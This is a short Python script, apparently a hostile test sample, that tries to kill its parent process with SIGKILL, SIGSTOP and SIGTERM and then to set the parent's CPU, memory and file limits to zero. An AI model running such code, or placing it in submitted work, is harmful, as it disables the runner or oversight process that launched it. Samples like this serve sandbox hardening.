"""Kills the process that started it, or lets it starve."""

import os
import resource
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
    try:
        resource.prlimit(os.getppid(), limit, (0, 0))
        print("starved it")
    except (OSError, ValueError):
        pass
print("still here")
